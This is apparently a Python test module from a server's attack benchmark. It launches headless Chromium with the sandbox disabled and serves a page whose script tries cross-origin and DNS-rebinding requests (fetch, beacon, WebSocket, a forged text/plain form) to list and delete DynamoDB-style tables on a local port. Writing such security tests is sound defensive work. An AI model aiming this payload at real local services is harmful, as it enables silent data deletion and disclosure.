"""A page of another site, open in a real browser, that wants to read and drop tables."""

import asyncio
import json
import os
import re
import shutil
import signal
from contextlib import suppress
from tempfile import TemporaryDirectory

from benchmarks.attack.arena import Arena, CannotAttackError
from benchmarks.attack.polite import TABLE

_BROWSERS = ("chromium", "chromium-browser", "google-chrome")
_OPTIONS = (
    *("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update"),
    # A name that the site's owner lets point to this machine, as in DNS rebinding.
    "--host-resolver-rules=MAP rebound.example 127.0.0.1",
)
_ATTEMPTS = 3
_SECONDS = 60
_PAGE = """<!doctype html><body><iframe name="frame"></iframe><script>
const table = NAME;
const body = JSON.stringify({TableName: table});
const read = [];
async function attempt(name, work) {
  try { read.push([name, await work()]); } catch (error) { read.push([name, null]); }
}
async function text(url, options) {
  const response = await fetch(url, options);
  return response.type === 'opaque' ? null : response.status + ' ' + (await response.text());
}
function headers(operation, type) {
  return {
    'X-Amz-Target': 'DynamoDB_20120810.' + operation, 'Content-Type': type,
    'X-Amz-Date': '20260101T000000Z', 'Authorization': 'AWS4-HMAC-SHA256 Credential=any/' +
      '20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host;x-amz-date, Signature=0',
  };
}
(async () => {
  for (const host of ['127.0.0.1', 'localhost', 'rebound.example']) {
    const url = `http://${host}:${PORT}/`;
    await attempt(`GET ${host}`, () => text(url));
    for (const type of ['text/plain', 'application/json', 'application/x-amz-json-1.0']) {
      for (const operation of ['ListTables', 'DeleteTable']) {
        for (const mode of ['cors', 'no-cors']) {
          await attempt(`${operation} ${mode} ${type} ${host}`, () => text(
            url, {method: 'POST', mode, body, headers: headers(operation, type)}));
        }
      }
      await attempt(`beacon ${type} ${host}`, async () => {
        navigator.sendBeacon(url, new Blob([body], {type}));
        return null;
      });
    }
    await attempt(`socket ${host}`, () => new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve(null);
    }));
    const form = document.createElement('form');
    form.method = 'POST'; form.action = url; form.target = 'frame'; form.enctype = 'text/plain';
    const field = document.createElement('input');
    field.name = '{"TableName":"' + table + '","a":"'; field.value = '"}';
    form.append(field); document.body.append(form); form.submit();
  }
  await fetch('/', {method: 'POST', body: JSON.stringify(read)});
})();
</script>"""


async def attack(arena: Arena) -> None:
    """Open the page, which tries all ways that a browser knows; polite clients see the effect."""
    for name, found in await readings(arena.port, TABLE):
        arena.sent += 1
        # A refusal carries no data, and no header that would let the page read it.
        if found is not None:
            arena.notice(f"a page could read the response to {name}: {found[:200]}")
    while arena.is_on:
        await arena.pause(1)


async def readings(port: int, table: str) -> list[tuple[str, str | None]]:
    """Return what a page of another origin could read of each response, None for nothing."""
    browser = next(filter(None, map(shutil.which, _BROWSERS)), None)
    if browser is None:
        raise CannotAttackError("chromium is not installed: apt-get install chromium")
    page = _PAGE.replace("PORT", str(port)).replace("NAME", json.dumps(table)).encode()
    read: asyncio.Future[bytes] = asyncio.get_running_loop().create_future()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except (OSError, asyncio.IncompleteReadError):
            writer.close()  # the browser opens more connections than it uses
            return
        size = re.search(rb"(?i)content-length: (\d+)", head)
        if size and not read.done():
            read.set_result(await reader.readexactly(int(size[1])))
        sizes = b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(page)
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + sizes + page)
        await writer.drain()
        writer.close()

    site = await asyncio.start_server(serve, "127.0.0.1", 0)
    address = f"http://localhost:{site.sockets[0].getsockname()[1]}/"
    try:
        for _ in range(_ATTEMPTS):
            await _open(browser, address, read)
            if read.done():
                return json.loads(read.result())
    finally:
        site.close()
    raise CannotAttackError(f"{browser} did not open the page")


async def _open(browser: str, address: str, read: asyncio.Future[bytes]) -> None:
    """Show the page until it has been read; a browser may hang when it starts."""
    with TemporaryDirectory(prefix="sortkey-page-", ignore_cleanup_errors=True) as profile:
        process = await asyncio.create_subprocess_exec(
            *(browser, *_OPTIONS, f"--user-data-dir={profile}", address),
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL,
            # A group of its own, since a browser is many processes.
            start_new_session=True,
        )
        try:
            await asyncio.wait({read}, timeout=_SECONDS)
        finally:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            await process.wait()
